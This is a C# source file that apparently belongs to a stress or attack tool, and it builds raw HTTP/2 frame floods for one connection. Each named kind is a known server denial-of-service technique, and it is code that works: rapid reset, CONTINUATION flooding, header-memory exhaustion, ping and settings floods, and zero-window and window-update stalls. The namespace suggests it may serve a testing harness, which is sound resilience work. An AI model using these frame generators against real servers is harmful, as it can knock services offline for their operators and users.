using Karaula.Drill.Sites;

namespace Karaula.Siege.Http2;

/// <summary>What one connection of a flood of frames sends: a beginning, and then batches.</summary>
/// <param name="Beginning">The preface and what comes once.</param>
/// <param name="Batch">A batch of so many, beginning with a stream's number that was not used before.</param>
internal sealed record FrameFlood(byte[] Beginning, Func<uint, int, byte[]> Batch)
{
    private const ushort InitialWindowSize = 4;
    private const ushort HeaderTableSize = 1;

    /// <summary>The flood of a kind.</summary>
    public static FrameFlood Of(string kind, string host)
    {
        var page = HeaderBlock.Get(host, "/search?q=x");
        var file = HeaderBlock.Get(host, SamplePages.ArchivePath);
        const byte whole = FrameBytes.EndStream | FrameBytes.EndHeaders;
        return kind switch
        {
            "rapid-reset" => new(new FrameBytes().Preface().ToArray(), (stream, count) => Each(count, (frames, i) => frames.Headers(stream + (2 * i), page, whole).Reset(stream + (2 * i)))),
            "continuation" => new(
                new FrameBytes().Preface().Headers(1, page, 0).ToArray(),
                Repeated(HeaderBlock.Field(), static (frames, field) => frames.Continuation(1, field))),
            "header-memory" => HeaderMemory(host),
            "ping-flood" => new(new FrameBytes().Preface().ToArray(), Repeated([], static (frames, _) => frames.Ping())),
            "settings-flood" => new(new FrameBytes().Preface().ToArray(), Repeated([], static (frames, _) => frames.Setting(HeaderTableSize, 4096))),
            "zero-window" => new(
                new FrameBytes().Preface(InitialWindowSize, 0).ToArray(), (stream, count) => Each(count, (frames, i) => frames.Headers(stream + (2 * i), file, whole))),
            "window-update" => new(
                new FrameBytes().Preface(InitialWindowSize, 0).Headers(1, file, whole).ToArray(), Repeated([], static (frames, _) => frames.Window(1, 1))),
            _ => throw new ArgumentException($"no flood of frames is called {kind}"),
        };
    }

    // The heads are whole, the requests are not: nothing is answered, and what was unpacked stays.
    private static FrameFlood HeaderMemory(string host)
    {
        var swelling = HeaderBlock.Swelling(host);
        return new(new FrameBytes().Preface().ToArray(), (stream, count) => Each(count, (frames, i) => frames.Headers(stream + (2 * i), swelling, FrameBytes.EndHeaders)));
    }

    private static byte[] Each(int count, Action<FrameBytes, uint> add)
    {
        var frames = new FrameBytes();
        for (var i = 0u; i < count; i++)
            add(frames, i);
        return frames.ToArray();
    }

    // Batches of the same frame are made once.
    private static Func<uint, int, byte[]> Repeated(byte[] payload, Action<FrameBytes, byte[]> add)
    {
        var known = new System.Collections.Concurrent.ConcurrentDictionary<int, byte[]>();
        return (_, count) => known.GetOrAdd(count, size => Each(size, (frames, _) => add(frames, payload)));
    }
}
